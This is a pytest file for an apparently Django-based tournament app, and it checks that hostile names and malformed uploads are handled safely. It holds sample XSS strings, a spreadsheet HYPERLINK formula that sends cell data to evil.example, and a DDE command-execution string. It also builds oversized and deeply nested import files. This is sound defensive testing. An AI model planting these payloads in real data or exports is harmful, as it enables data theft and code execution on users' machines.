"""Hostile input: names with markup or formulas, oversized and malformed files.

Markup in a team or player name is shown as text on every page and PDF template, sent
as data in JSON, and neutralized in every CSV/XLSX export. Imports refuse oversized,
badly encoded, too long or absurd files with a message, never with a 500.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from core.exports import FORMULA_START
from tests.trust.conftest import Site, make
from tests.trust.tally import COUNTS
from tests.trust.test_permission_matrix import RULES, walk

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('t1')</script>"
IMG = '<img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clique")'
NAMES = {"t1": SCRIPT, "t2": IMG, "t3": FORMULA, "t4": "+cmd|' /C calc'!A0"}


@pytest.fixture
def hostile(site: Site) -> Site:
    site.public = make("hostil", names=NAMES)
    from tournaments.models import Membership
    from tournaments.services.registration import PlayerInput, TeamInput, team_register

    Membership.objects.create(tournament=site.public, user=site.users["organizer"], role="organizer")
    players = [PlayerInput(IMG, True), PlayerInput(FORMULA), PlayerInput("@SUM(1+1)")]
    team_register(tournament=site.public, data=TeamInput(name="-" + FORMULA, entity=FORMULA, players=players))
    return site


def test_markup_in_names_is_escaped_on_every_page(hostile: Site) -> None:
    values = hostile.kwargs_for(hostile.public)
    pages = 0
    for role in ("anonymous", "organizer"):
        client = hostile.client(role)
        for name, params in sorted(set(walk())):
            if name not in RULES or RULES[name].get != 200:
                continue
            response = client.get(reverse(name, kwargs={k: values[k] for k in params}))
            if response.status_code != 200:
                continue
            kind = response.get("Content-Type", "")
            if kind == "image/png":  # a picture to share: its names are drawn, never markup
                assert response["X-Content-Type-Options"] == "nosniff"
                continue
            body = response.content.decode()
            pages += 1
            if "json" in kind:
                # Names are data here, exactly as typed; JSON with nosniff is never run as a page.
                assert (
                    SCRIPT in json.dumps(json.loads(body), ensure_ascii=False)
                    or name != "public:standings_json"
                )
                assert response["X-Content-Type-Options"] == "nosniff"
                continue
            assert SCRIPT not in body and IMG not in body, f"{name} as {role}: raw markup"
    COUNTS["pages checked for escaped hostile names"] += pages
    standings = hostile.client("anonymous").get(reverse("public:standings", args=["hostil"]))
    assert "&lt;script&gt;alert(&#x27;t1&#x27;)&lt;/script&gt;" in standings.content.decode()


def cells_of(response: Any, fmt: str) -> list[Any]:
    if fmt == "csv":
        text = response.content.decode("utf-8-sig")
        return [c for row in csv.reader(io.StringIO(text)) for c in row]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    out = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value}"
                out.append(cell.value)
    return out


NUMBER = re.compile(r"^[-+]?\d+(\.\d+)?$")  # a CSV number, e.g. a negative saldo


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_export_link_neutralizes_formulas(hostile: Site, fmt: str) -> None:
    exports = {
        "public:standings": "anonymous",
        "public:results": "anonymous",
        "public:schedule": "anonymous",
        "tournaments:teams": "organizer",
        "audit:log": "organizer",
    }
    for name, role in exports.items():
        response = hostile.client(role).get(reverse(name, args=["hostil"]), {"_export": fmt})
        assert response.status_code == 200, name
        cells = [c for c in cells_of(response, fmt) if isinstance(c, str)]
        assert any("HYPERLINK" in c for c in cells), name
        bad = [c for c in cells if c.startswith(FORMULA_START) and not NUMBER.match(c)]
        assert not bad, f"{name} {fmt}: {bad}"
        COUNTS["export files checked for formula injection"] += 1


def test_printing_templates_autoescape_names() -> None:
    folder = Path(settings.BASE_DIR, "templates", "printing")
    if not folder.is_dir():
        pytest.skip("no printing templates yet")
    for path in folder.glob("*.html"):
        text = path.read_text()
        assert "autoescape off" not in text, path.name
        # |safe only on drawings built by printing (which escape names themselves); no
        # organizer text reaches CSS (margin boxes are running HTML elements).
        for variable in re.findall(r"\{\{\s*([\w.]+)\s*\|\s*safe", text):
            last = variable.split(".")[-1]
            assert last in {"svg", "drawing"}, f"{path.name}: {variable}|safe"
    from django.template.loader import render_to_string

    html = render_to_string("printing/_base.html", {"title": SCRIPT, "tournament_name": SCRIPT})
    assert SCRIPT not in html


def upload(client: Client, url: str, name: str, raw: bytes) -> Any:
    return client.post(url, {"file": SimpleUploadedFile(name, raw)})


TEAM_FILES = {
    "over 2 MB": ("big.csv", b"equipe,entidade\n" + b"x" * (2 * 1024 * 1024 + 10)),
    "latin-1": ("latin.csv", "equipe;entidade\nCamponês;CTG Açoriano\n".encode("latin-1")),
    "binary": ("bin.csv", bytes(range(256)) * 20),
    "fake xlsx": ("teams.xlsx", b"PK\x03\x04 not really a zip"),
    "too many rows": ("rows.csv", ("equipe,jogador 1\n" + "T{0},P{0}\n" * 1).encode() * 1),
    "empty": ("empty.csv", b""),
    "only header": ("h.csv", b"equipe\n"),
    "huge cell": ("cell.csv", b"equipe,jogador 1\n" + b"A" * 500_000 + b",B\n"),
}


@pytest.mark.parametrize("case", sorted(TEAM_FILES))
def test_team_import_refuses_bad_files_with_a_message(site: Site, case: str) -> None:
    name, raw = TEAM_FILES[case]
    if case == "too many rows":
        raw = ("equipe,jogador 1\n" + "".join(f"T{i},P{i}\n" for i in range(2100))).encode()
    url = reverse("tournaments:import", args=[site.public.slug])
    response = upload(site.client("organizer"), url, name, raw)
    COUNTS["hostile import files"] += 1
    assert response.status_code in (200, 400), case
    if case != "latin-1":
        assert response.status_code == 400, case
    assert b"Traceback" not in response.content


def deep(n: int) -> bytes:
    return b"[" * n + b"]" * n


INTERCHANGE = {
    "huge integer": b'{"format": "tenteio/1", "tournament": {"name": "x", "slug": "x"}, "n": '
    + b"9" * 50_000
    + b"}",
    "huge float": b'{"format": "tenteio/1", "n": 1e999999}',
    "deep nesting": deep(100_000),
    "deep object": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "gigantic string": b'{"format": "tenteio/1", "tournament": {"name": "' + b"A" * 5_000_000 + b'"}}',
    "not utf-8": b'{"format": "tenteio/1", "tournament": {"name": "\xe7\xe3o"}}',
    "not json": b"<html><script>alert(1)</script></html>",
    "a list": b"[1, 2, 3]",
    "wrong types": json.dumps(
        {"format": "tenteio/1", "tournament": {"name": ["x"], "slug": {"a": 1}}, "teams": "x", "matches": 7}
    ).encode(),
    "huge numbers in results": json.dumps(
        {
            "format": "tenteio/1",
            "tournament": {"name": "x", "slug": "hugenum", "modality": "truco-cego-trio"},
            "teams": [{"key": "a", "name": "A", "players": [{"name": "p"}] * 3}],
            "matches": [{"teams": ["a", "a"], "result": {"games": [[10**30, -(10**30)]]}}],
        }
    ).encode(),
}


@pytest.mark.parametrize("case", sorted(INTERCHANGE))
def test_interchange_upload_refuses_absurd_files_with_a_message(site: Site, case: str) -> None:
    response = upload(site.client("organizer"), reverse("interchange:import"), "t.json", INTERCHANGE[case])
    COUNTS["hostile interchange files"] += 1
    assert response.status_code == 400, case
    assert "problema" in response.content.decode().lower() or b"arquivo" in response.content.lower()


def test_interchange_upload_over_20_mb_is_refused(site: Site) -> None:
    raw = b'{"format": "tenteio/1", "pad": "' + b" " * (20 * 1024 * 1024) + b'"}'
    response = upload(site.client("organizer"), reverse("interchange:import"), "t.json", raw)
    COUNTS["hostile interchange files"] += 1
    assert response.status_code == 400
    assert "20 MB" in response.content.decode()
